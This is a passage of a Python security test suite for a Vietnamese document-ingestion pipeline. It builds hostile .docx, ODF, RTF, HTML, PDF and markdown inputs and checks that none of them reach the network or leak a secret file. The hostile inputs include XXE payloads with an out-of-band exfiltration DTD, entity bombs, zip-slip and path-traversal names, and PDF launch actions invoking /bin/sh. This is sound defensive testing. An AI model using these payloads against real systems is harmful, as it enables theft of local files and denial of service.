"""Hostile letters reach no network, read no other file, and write nothing outside --out.

One real `vanban ingest IN --out OUT` runs in a subprocess over a folder of
hostile files, with HOME, TMPDIR and the working directory each a fresh empty
folder, while a local HTTP server (127.0.0.1, a random port) records every
connection and a "secret" file elsewhere holds a marker. The files point at
both: XML external entities (general, parameter, external DTD subset, the
out-of-band "exfiltration" DTD) in every part of a .docx, entity bombs,
external relationships of a .docx (template, linked picture, sub-document,
alt-chunk, frame, linked OLE object, INCLUDETEXT/INCLUDEPICTURE fields),
relationship targets and ZIP member names that climb out of the package,
linked pictures, sections, objects and frames in .odt and flat-XML files, a
web page saved as .doc, RTF fields, PDF actions, attachments and external
streams, and markdown/HTML images in text files.

Checked: the server gets no request; neither the marker nor the server's
content is in OUT; every input ends in exactly one record, of the kind it
should; HOME, TMPDIR and the working directory are empty afterwards; the input
tree is byte-identical, with the same names, modes and times. When `strace`
works here the run is traced as well (`Trace`): no process connects to an
internet socket, opens the secret, or creates, changes or removes a file
outside OUT (Python's `__pycache__`, devices, /proc and POSIX semaphores
aside). Where the kernel and our rights allow mount, PID and network
namespaces, `vanban.pipeline.convert` runs LibreOffice in a private view of the file
system: the trace follows its mounts and chroot, so what it writes is placed
where it lands (its single-instance socket in its own tmpfs /tmp, not this
machine's), and the secret is not there for an INCLUDEPICTURE field to open.
Where they are not allowed, those two checks are expected to fail (xfail):
LibreOffice binds its socket in /tmp, and its import filter opens a picture an
INCLUDEPICTURE field links to a local file. The LibreOffice files run a second
time with `unshare` unusable, to prove that the profile settings of
`vanban.pipeline.convert` alone keep LibreOffice off the network.

In-process: python-docx's XML parsers (the ones `vanban.pipeline.load_docx` relies on)
resolve no entity and fetch nothing, `load_docx` itself returns none of the
secret, and `pipeline` parses no XML with another parser.
"""

from __future__ import annotations

import codecs
import contextlib
import functools
import hashlib
import http.server
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import uuid
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.opc import oxml as opc_oxml
from docx.oxml import parser as oxml_parser
from lxml import etree

ROOT = Path(__file__).resolve().parent.parent
MARKER = f"VANBAN-SECRET-{uuid.uuid4().hex}"
NET_MARKER = "VANBAN-FETCHED-OVER-HTTP"
PROCESS_TIMEOUT = 600

LETTER = [
    "ỦY BAN NHÂN DÂN TỈNH BẮC NINH",
    "Số: 15/UBND-VP",
    "V/v rà soát hồ sơ đất đai",
    "Bắc Ninh, ngày 3 tháng 3 năm 2026",
    "Kính gửi: Sở Tài chính.",
    "1. Sở Tài chính rà soát hồ sơ và báo cáo trước ngày 30 tháng 3 năm 2026.",
    "Nơi nhận:",
    "- Như trên;",
    "CHỦ TỊCH",
    "Nguyễn Văn An",
]
ASCII_LETTER = [
    "UY BAN NHAN DAN TINH BAC NINH",
    "So: 16/UBND-VP",
    "V/v ra soat ho so dat dai",
    "Bac Ninh, ngay 3 thang 3 nam 2026",
    "Kinh gui: So Tai chinh.",
    "1. So Tai chinh ra soat ho so va bao cao truoc ngay 30/3/2026.",
    "CHU TICH",
    "Nguyen Van An",
]


# --- the recording server -------------------------------------------------------------


class Recorder(http.server.ThreadingHTTPServer):
    """Answers anything on 127.0.0.1 and remembers every connection and request line."""

    daemon_threads = True

    def __init__(self, secret: Path) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.secret = secret
        self.hits: list[str] = []
        self._lock = threading.Lock()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def record(self, what: str) -> None:
        with self._lock:
            self.hits.append(what)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Recorder
    timeout = 5

    def handle(self) -> None:  # every connection counts, HTTP or not
        self.server.record(f"connection from {self.client_address[0]}")
        super().handle()

    def handle_one_request(self) -> None:
        self.raw_requestline = self.rfile.readline(65537)
        if not self.raw_requestline:
            self.close_connection = True
            return
        self.server.record(self.raw_requestline.decode("latin-1").strip())
        if not self.parse_request():
            return
        if self.path.endswith(".dtd"):
            # The out-of-band XXE: a parser that loads this sends the secret back.
            secret = self.server.secret.as_uri()
            body = (
                f'<!ENTITY % file SYSTEM "{secret}">'
                f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{self.server.url}/exfil?%file;'>\">"
                "%eval;%exfil;"
                f'<!ENTITY net "{NET_MARKER}">'
            ).encode()
        else:
            body = NET_MARKER.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("secret") / "secret.txt"
    path.write_text(f"{MARKER}\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def server(secret: Path) -> Iterator[Recorder]:
    srv = Recorder(secret)
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield srv
    srv.shutdown()
    srv.server_close()


# --- hostile inputs ---------------------------------------------------------------------


@dataclass
class Ctx:
    url: str  # the recording server
    secret: Path

    @property
    def secret_uri(self) -> str:
        return self.secret.as_uri()


R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC_NS = "http://schemas.openxmlformats.org/drawingml/2006/picture"
_PLACEHOLDER = "<w:p><w:r><w:t>@@HOSTILE@@</w:t></w:r></w:p>"


def _base_docx() -> bytes:
    document = docx.Document()
    for line in LETTER:
        document.add_paragraph(line)
    document.add_paragraph("@@HOSTILE@@")
    document.core_properties.title = "Công văn rà soát"
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _docx(
    body: str = "",
    doctype: str = "",
    parts: dict[str, Callable[[str], str]] | None = None,
    extra: dict[str, str] | None = None,
) -> bytes:
    """The base letter with `body` XML in place of its placeholder paragraph, `doctype`
    after document.xml's XML declaration, other parts rewritten by `parts` and members
    added from `extra` (written verbatim, any name)."""
    edits = dict(parts or {})

    def document_xml(xml: str) -> str:
        assert _PLACEHOLDER in xml
        xml = xml.replace(_PLACEHOLDER, body)
        if doctype:
            end = xml.index("?>") + 2
            xml = xml[:end] + "\n" + doctype + xml[end:]
        return xml

    edits["word/document.xml"] = document_xml
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_base_docx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            edit = edits.pop(info.filename, None)
            if edit is not None:
                data = edit(data.decode("utf-8")).encode("utf-8")
            dst.writestr(info, data)
        for name, edit in edits.items():  # parts the base has not: created from ""
            dst.writestr(name, edit(""))
        for name, text in (extra or {}).items():
            dst.writestr(zipfile.ZipInfo(name), text)
    return out.getvalue()


def _add_rels(rels: list[tuple[str, str, str, bool]]) -> Callable[[str], str]:
    """Add (id, type, target, external) relationships to a .rels part (made if absent)."""

    def edit(xml: str) -> str:
        if not xml:
            xml = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}"></Relationships>'
        added = "".join(
            f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"'
            + (' TargetMode="External"' if external else "")
            + "/>"
            for rid, kind, target, external in rels
        )
        return xml.replace("</Relationships>", added + "</Relationships>")

    return edit


def _text_run(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def _linked_picture(rid: str, n: int) -> str:
    """A DrawingML picture whose image is linked (`r:link`), not embedded."""
    return (
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/>'
        f'<wp:docPr id="{n}" name="Linked {n}"/>'
        f'<a:graphic xmlns:a="{A_NS}"><a:graphicData uri="{PIC_NS}">'
        f'<pic:pic xmlns:pic="{PIC_NS}"><pic:nvPicPr><pic:cNvPr id="{n}" name="l{n}.png"/>'
        "<pic:cNvPicPr/></pic:nvPicPr>"
        f'<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def xxe_general_docx(c: Ctx) -> bytes:
    doctype = (
        "<!DOCTYPE w:document [\n"
        f'<!ENTITY sec SYSTEM "{c.secret_uri}">\n'
        f'<!ENTITY net SYSTEM "{c.url}/docx-xxe-general">\n'
        "]>"
    )
    return _docx(_text_run("Tham chiếu: &sec;") + _text_run("Mạng: &net;"), doctype)


def xxe_parameter_docx(c: Ctx) -> bytes:
    # An external DTD subset, and a parameter entity loading the out-of-band DTD.
    doctype = (
        f'<!DOCTYPE w:document SYSTEM "{c.url}/docx-external-subset.dtd" [\n'
        f'<!ENTITY % remote SYSTEM "{c.url}/docx-parameter.dtd">\n'
        f'<!ENTITY % local SYSTEM "{c.secret_uri}">\n'
        "%remote;\n%local;\n"
        "]>"
    )
    return _docx(_text_run("Tham chiếu: &net;"), doctype)


def xxe_every_part_docx(c: Ctx) -> bytes:
    """Entities in the parts other than the body: core and app properties (whose
    title and company reach a record's metadata), styles, numbering, settings,
    the content types and the package relationships."""
    general = (
        f'<!ENTITY sec SYSTEM "{c.secret_uri}"><!ENTITY net SYSTEM "{c.url}/docx-part-general">'
    )
    param = f'<!ENTITY % remote SYSTEM "{c.url}/docx-part-parameter.dtd"> %remote;'

    def with_doctype(root: str, entities: str, replace: tuple[str, str] | None = None):
        def edit(xml: str) -> str:
            end = xml.index("?>") + 2
            xml = xml[:end] + f"\n<!DOCTYPE {root} [{entities}]>" + xml[end:]
            if replace:
                assert replace[0] in xml, replace[0]
                xml = xml.replace(replace[0], replace[1], 1)
            return xml

        return edit

    return _docx(
        _text_run("Nội dung chính."),
        parts={
            "docProps/core.xml": with_doctype(
                "cp:coreProperties",
                general,
                ("<dc:title>Công văn rà soát</dc:title>", "<dc:title>&sec; &net;</dc:title>"),
            ),
            "docProps/app.xml": with_doctype(
                "Properties", general, ("</Properties>", "<Company>&sec;</Company></Properties>")
            ),
            "word/styles.xml": with_doctype("w:styles", general + param),
            "word/numbering.xml": with_doctype("w:numbering", param),
            "word/settings.xml": with_doctype("w:settings", param),
            "[Content_Types].xml": with_doctype("Types", param),
            "_rels/.rels": with_doctype("Relationships", param),
            "word/_rels/document.xml.rels": with_doctype("Relationships", param),
        },
    )


def billion_laughs_docx(c: Ctx) -> bytes:
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    return _docx(_text_run("&lol9;"), f"<!DOCTYPE w:document [{entities}]>")


def quadratic_blowup_docx(c: Ctx) -> bytes:
    # One big entity referenced many times: no nesting for a depth limit to catch.
    doctype = f'<!DOCTYPE w:document [<!ENTITY big "{"A" * 50_000}">]>'
    return _docx(_text_run("&big;" * 20_000), doctype)


def _external_rels_docx(c: Ctx, with_file_links: bool = True) -> bytes:
    """External relationships of every kind Word follows, to the server and to the secret."""
    rels = [
        ("rIdX1", "hyperlink", f"{c.url}/docx-hyperlink", True),
        ("rIdX2", "image", f"{c.url}/docx-linked-image.png", True),
        ("rIdX3", "subDocument", f"{c.url}/docx-subdocument.docx", True),
        ("rIdX4", "aFChunk", f"{c.url}/docx-altchunk.html", True),
        ("rIdX5", "customXml", f"{c.url}/docx-customxml.xml", True),
        ("rIdX6", "oleObject", f"{c.url}/docx-linked-ole.xlsx", True),
    ]
    body = [
        f'<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>{c.url}/docx-hyperlink</w:t></w:r></w:hyperlink></w:p>',
        _linked_picture("rIdX2", 101),
        # VML picture and linked OLE object: what Word 2003-era letters carry.
        '<w:p><w:r><w:pict><v:shape id="vml1" style="width:40pt;height:40pt">'
        '<v:imagedata r:id="rIdX2" o:title=""/></v:shape></w:pict></w:r></w:p>',
        '<w:p><w:r><w:object><v:shape id="ole1" style="width:40pt;height:40pt">'
        '<v:imagedata r:id="rIdX2" o:title=""/></v:shape>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdX6" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject>'
        "</w:object></w:r></w:p>",
        '<w:p><w:subDoc r:id="rIdX3"/></w:p>',
        '<w:altChunk r:id="rIdX4"/>',
        f"<w:p><w:fldSimple w:instr=' INCLUDETEXT \"{c.url}/docx-includetext\" '>"
        "<w:r><w:t>(văn bản kèm theo)</w:t></w:r></w:fldSimple></w:p>",
        f"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"{c.url}/docx-includepicture.png\" \\d '>"
        "<w:r><w:t> </w:t></w:r></w:fldSimple></w:p>",
    ]
    if with_file_links:
        rels += [
            ("rIdY1", "image", c.secret_uri, True),
            ("rIdY2", "subDocument", c.secret_uri, True),
            ("rIdY3", "aFChunk", c.secret_uri, True),
        ]
        body += [
            _linked_picture("rIdY1", 102),
            '<w:p><w:subDoc r:id="rIdY2"/></w:p>',
            '<w:altChunk r:id="rIdY3"/>',
        ]
    body.append(_text_run("Hết."))

    def settings(xml: str) -> str:
        return re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT1"/>', xml, count=1)

    def web_settings(xml: str) -> str:
        frames = (
            '<w:frameset><w:frame><w:name w:val="khung"/>'
            '<w:sourceFileName r:id="rIdF1"/></w:frame></w:frameset>'
        )
        xml = xml.replace("<w:webSettings ", f'<w:webSettings xmlns:r="{R_NS}" ', 1)
        return re.sub(r"(<w:webSettings[^>]*>)", r"\1" + frames, xml, count=1)

    return _docx(
        "".join(body),
        parts={
            "word/_rels/document.xml.rels": _add_rels(rels),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _add_rels(
                [("rIdT1", "attachedTemplate", f"{c.url}/docx-template.dotm", True)]
            ),
            "word/webSettings.xml": web_settings,
            "word/_rels/webSettings.xml.rels": _add_rels(
                [("rIdF1", "frame", f"{c.url}/docx-frame.html", True)]
            ),
        },
    )


def external_rels_docx(c: Ctx) -> bytes:
    return _external_rels_docx(c)


def escaping_parts_docx(c: Ctx) -> bytes:
    """Internal relationships whose targets climb out of the package to the secret, and a
    ZIP member whose name climbs out of any folder it would be extracted to."""
    climb = "../" * 20 + str(c.secret).lstrip("/")
    return _docx(
        _text_run("Phụ lục đính kèm."),
        parts={
            "word/_rels/document.xml.rels": _add_rels(
                [("rIdZ1", "image", climb, False), ("rIdZ2", "footer", str(c.secret), False)]
            )
        },
        extra={"../../../../../../../../ZIP-SLIP-" + MARKER[-8:]: "zip slip"},
    )


def docx_named_doc(c: Ctx) -> bytes:
    # A .docx saved with a .doc name goes through LibreOffice, which reads the
    # external relationships itself. (No file: links: LibreOffice reads linked
    # pictures from disk, see `include_picture_file_rtf`.)
    return _external_rels_docx(c, with_file_links=False)


def _rtf_text(text: str) -> str:
    out = []
    for ch in text:
        code = ord(ch)
        if ch in "\\{}":
            out.append("\\" + ch)
        elif code < 128:
            out.append(ch)
        else:
            out.append(f"\\u{code if code < 32768 else code - 65536}?")
    return "".join(out)


def _rtf(fields: list[str]) -> bytes:
    lines = "".join(f"\\pard {_rtf_text(line)}\\par\n" for line in LETTER)
    old = _rtf_text("(cũ)")  # the field's last result
    return (
        "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Times New Roman;}}\n"
        + lines
        + "".join(f"{{\\field{{\\*\\fldinst {f}}}{{\\fldrslt {old}}}}}\\par\n" for f in fields)
        + "}\n"
    ).encode("ascii")


def linked_rtf(c: Ctx) -> bytes:
    return _rtf(
        [
            f'INCLUDETEXT "{c.url}/rtf-includetext.txt"',
            f'INCLUDETEXT "{c.secret}"',
            f'INCLUDEPICTURE "{c.url}/rtf-includepicture.png" \\\\d',
            f'HYPERLINK "{c.url}/rtf-hyperlink"',
            f'IMPORT "{c.url}/rtf-import.png"',
        ]
    )


def include_picture_file_rtf(c: Ctx) -> bytes:
    """A picture linked to a file on this machine: LibreOffice opens the file to load it."""
    return _rtf([f'INCLUDEPICTURE "{c.secret}" \\\\d'])


_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
    'office:version="1.2"'
)


def _odf_body(c: Ctx) -> str:
    def frame(n: int, inner: str) -> str:
        return (
            f'<text:p><draw:frame draw:name="f{n}" text:anchor-type="as-char" '
            f'svg:width="2cm" svg:height="2cm">{inner}</draw:frame></text:p>'
        )

    link = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    return "".join(
        [
            *(f"<text:p>{line}</text:p>" for line in LETTER),
            frame(1, f'<draw:image xlink:href="{c.url}/odf-linked-image.png" {link}/>'),
            frame(2, f'<draw:image xlink:href="{c.secret_uri}" {link}/>'),
            frame(3, f'<draw:object xlink:href="{c.url}/odf-object" {link}/>'),
            frame(4, f'<draw:floating-frame xlink:href="{c.url}/odf-frame.html" {link}/>'),
            frame(5, f'<draw:plugin xlink:href="{c.url}/odf-plugin" {link}/>'),
            '<text:section text:name="s1">'
            f'<text:section-source xlink:href="{c.url}/odf-section.odt" xlink:type="simple" '
            'xlink:show="embed"/><text:p>(phần liên kết)</text:p></text:section>',
            '<text:section text:name="s2">'
            f'<text:section-source xlink:href="{c.secret_uri}" text:filter-name="Text" '
            'xlink:type="simple" xlink:show="embed"/><text:p>(phần liên kết 2)</text:p></text:section>',
            f'<text:p><text:a xlink:type="simple" xlink:href="{c.url}/odf-hyperlink">Liên kết</text:a></text:p>',
        ]
    )


def _odt(content: str) -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _xxe_doctype(c: Ctx, root: str, prefix: str) -> str:
    return (
        f"<!DOCTYPE {root} [\n"
        f'<!ENTITY sec SYSTEM "{c.secret_uri}">\n'
        f'<!ENTITY net SYSTEM "{c.url}/{prefix}-xxe-general">\n'
        f'<!ENTITY % remote SYSTEM "{c.url}/{prefix}-xxe-parameter.dtd">\n'
        "%remote;\n"
        "]>"
    )


def linked_odt(c: Ctx) -> bytes:
    return _odt(
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<office:document-content {_ODF_NS}><office:body><office:text>"
        f"{_odf_body(c)}</office:text></office:body></office:document-content>"
    )


def xxe_odt(c: Ctx) -> bytes:
    return _odt(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + _xxe_doctype(c, "office:document-content", "odt")
        + f"<office:document-content {_ODF_NS}><office:body><office:text>"
        + "".join(f"<text:p>{line}</text:p>" for line in LETTER)
        + "<text:p>&sec; &net;</text:p></office:text></office:body></office:document-content>"
    )


def _flat_odt(c: Ctx, doctype: str, body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + doctype
        + f'<office:document {_ODF_NS} office:mimetype="application/vnd.oasis.opendocument.text">'
        + f"<office:body><office:text>{body}</office:text></office:body></office:document>"
    ).encode("utf-8")


def flat_linked_doc(c: Ctx) -> bytes:
    """A flat OpenDocument (.fodt) saved with a .doc name: its signature (`<`) passes."""
    return _flat_odt(c, "", _odf_body(c))


def flat_xxe_doc(c: Ctx) -> bytes:
    body = "".join(f"<text:p>{line}</text:p>" for line in LETTER) + "<text:p>&sec; &net;</text:p>"
    return _flat_odt(c, _xxe_doctype(c, "office:document", "fodt"), body)


def web_page_doc(c: Ctx) -> bytes:
    """A web page saved with a .doc name, which LibreOffice converts as HTML."""
    paragraphs = "".join(f"<p>{line}</p>" for line in LETTER)
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Công văn</title>"
        f"<link rel='stylesheet' href='{c.url}/html-stylesheet.css'>"
        f"<style>@import url('{c.url}/html-import.css'); "
        f"p {{ background: url('{c.url}/html-css-background.png'); }}</style>"
        f"<script src='{c.url}/html-script.js'></script>"
        f"</head><body background='{c.url}/html-body-background.png'>{paragraphs}"
        f"<img src='{c.url}/html-img.png' width='20' height='20'>"
        f"<img src='{c.secret_uri}' width='20' height='20'>"
        f"<iframe src='{c.url}/html-iframe.html'></iframe>"
        f"<iframe src='{c.secret_uri}'></iframe>"
        f"<object data='{c.url}/html-object'></object>"
        f"<embed src='{c.url}/html-embed'>"
        f"<table background='{c.url}/html-table-background.png'><tr><td>Ô</td></tr></table>"
        f"<p><a href='{c.url}/html-link'>Liên kết</a></p>"
        "</body></html>"
    ).encode()


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (object 1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 2 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _pdf_string(text: str) -> bytes:
    return b"(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode() + b")"


def _pdf_actions(c: Ctx, page_resources: bytes, content: bytes, xobjects: list[bytes]) -> bytes:
    """A one-page PDF with every action and reference that points outside the file."""

    def url(path: str) -> bytes:
        return _pdf_string(f"{c.url}/{path}")

    secret = _pdf_string(str(c.secret))
    secret_uri = _pdf_string(c.secret_uri)
    xmp = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
        + _xxe_doctype(c, "x:xmpmeta", "xmp")
        + '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:title>&sec; &net;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()
    objects: list[bytes] = [
        # 1 catalog: open action, additional actions, named JavaScript and attachments,
        # a URI base, metadata, an AcroForm that submits and imports.
        b"<< /Type /Catalog /Pages 3 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> "
        b"/URI << /Base " + url("pdf-uri-base/") + b" >> /Metadata 12 0 R "
        b"/Names << /JavaScript << /Names [(js) 7 0 R] >> /EmbeddedFiles << /Names [(a) 8 0 R] >> >> "
        b"/AcroForm << /Fields [11 0 R] /XFA " + url("pdf-xfa.xml") + b" >> >>",
        # 2 info
        b"<< /Title (Cong van) /Producer (test) >>",
        # 3 pages
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        # 4 page
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Resources "
        + page_resources
        + b" /Contents 13 0 R /Annots [9 0 R 10 0 R 11 0 R 14 0 R] /AA << /O 15 0 R >> >>",
        # 5 open action: a URI, then a remote go-to, then a launch
        b"<< /S /URI /URI " + url("pdf-openaction") + b" /Next [15 0 R 16 0 R] >>",
        # 6 document-close action: submit a form
        b"<< /S /SubmitForm /F << /FS /URL /F " + url("pdf-submit") + b" >> >>",
        # 7 JavaScript
        b'<< /S /JavaScript /JS (app.launchURL\\("'
        + f"{c.url}/pdf-javascript".encode()
        + b'"\\); this.importDataObject\\("x", "'
        + str(c.secret).encode()
        + b'"\\);) >>',
        # 8 attachment whose file lives elsewhere
        b"<< /Type /Filespec /F " + secret + b" /UF " + secret + b" /FS /URL >>",
        # 9 link: URI
        b"<< /Type /Annot /Subtype /Link /Rect [50 50 150 70] /A << /S /URI /URI "
        + url("pdf-link-uri")
        + b" >> >>",
        # 10 link: go to another file, over the web
        b"<< /Type /Annot /Subtype /Link /Rect [50 80 150 100] /A << /S /GoToR /F "
        b"<< /Type /Filespec /FS /URL /F " + url("pdf-gotor.pdf") + b" >> /D [0 /Fit] >> >>",
        # 11 a form field whose action imports data from the secret
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [50 110 150 130] "
        b"/A << /S /ImportData /F " + secret + b" >> >>",
        # 12 XMP metadata with external entities
        _stream(b"/Type /Metadata /Subtype /XML", xmp),
        # 13 page content
        _stream(b"", content),
        # 14 link: launch the secret
        b"<< /Type /Annot /Subtype /Link /Rect [50 140 150 160] /A << /S /Launch /F "
        + secret_uri
        + b" /Unix << /F (/bin/sh) /P (-c true) >> >> >>",
        # 15 page-open action: go to the secret as a PDF
        b"<< /S /GoToR /F " + secret + b" /D [0 /Fit] /NewWindow true >>",
        # 16 launch
        b"<< /S /Launch /F << /Type /Filespec /F " + secret + b" >> >>",
        *xobjects,
    ]
    return _pdf(objects)


def actions_pdf(c: Ctx) -> bytes:
    lines = b"".join(b"%s Tj T* " % _pdf_string(line) for line in ASCII_LETTER)
    content = b"BT /F1 12 Tf 14 TL 72 780 Td " + lines + b"ET q 20 0 0 20 400 400 cm /Ext Do Q"
    # 17 font, 18 an image whose data is an external file (/F): PDF 1.2 "external streams"
    resources = b"<< /Font << /F1 17 0 R >> /XObject << /Ext 18 0 R >> >>"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    external = _stream(
        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /F << /FS /URL /F "
        + _pdf_string(f"{c.url}/pdf-external-stream")
        + b" >> /FDecodeParms null",
        b"",
    )
    return _pdf_actions(c, resources, content, [font, external])


def scan_pdf(c: Ctx) -> bytes:
    """An image-only page (read by OCR) with the same actions."""
    from PIL import Image, ImageDraw, ImageFont

    width, height = 1240, 1754  # A4 at 150 dpi
    image = Image.new("L", (width, height), 255)
    draw = ImageDraw.Draw(image)
    dejavu = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
    font = ImageFont.truetype(str(dejavu), 30) if dejavu.exists() else ImageFont.load_default()
    for i, line in enumerate(LETTER[:6]):
        draw.text((120, 120 + i * 60), line, fill=0, font=font)
    pixels = zlib.compress(image.tobytes())
    xobject = _stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height),
        pixels,
    )
    content = b"q 595 0 0 842 0 0 cm /Im Do Q"  # the whole page
    return _pdf_actions(c, b"<< /XObject << /Im 17 0 R >> >>", content, [xobject])


def _markdown(c: Ctx, prefix: str) -> bytes:
    links = [
        f"![Logo]({c.url}/{prefix}-markdown-image.png)",
        f"![Bí mật]({c.secret_uri})",
        f'<img src="{c.url}/{prefix}-html-img.png">',
        f'<img src="{c.secret_uri}">',
        f'<iframe src="{c.url}/{prefix}-iframe.html"></iframe>',
        f'<link rel="stylesheet" href="{c.url}/{prefix}-style.css">',
        f"<script src='{c.url}/{prefix}-script.js'></script>",
        "![Phụ lục][pl]",
        "",
        f"[pl]: {c.url}/{prefix}-reference-image.png",
        f"<!DOCTYPE x [<!ENTITY sec SYSTEM '{c.secret_uri}'>]><x>&sec;</x>",
    ]
    return "\n".join([*LETTER[:6], *links, *LETTER[6:]]).encode("utf-8")


def links_md(c: Ctx) -> bytes:
    return _markdown(c, "md")


def links_txt(c: Ctx) -> bytes:
    return _markdown(c, "txt")


def web_page_html(c: Ctx) -> bytes:
    return web_page_doc(c)  # not a format vanban reads: an `unsupported_format` error


# name in IN -> (builder, what it must give: "document", "error" or "any")
HOSTILE: dict[str, tuple[Callable[[Ctx], bytes], str]] = {
    "docx/xxe_general.docx": (xxe_general_docx, "any"),
    "docx/xxe_parameter.docx": (xxe_parameter_docx, "any"),
    "docx/xxe_every_part.docx": (xxe_every_part_docx, "any"),
    "docx/billion_laughs.docx": (billion_laughs_docx, "any"),
    "docx/quadratic_blowup.docx": (quadratic_blowup_docx, "any"),
    "docx/external_rels.docx": (external_rels_docx, "document"),
    "docx/escaping_parts.docx": (escaping_parts_docx, "any"),
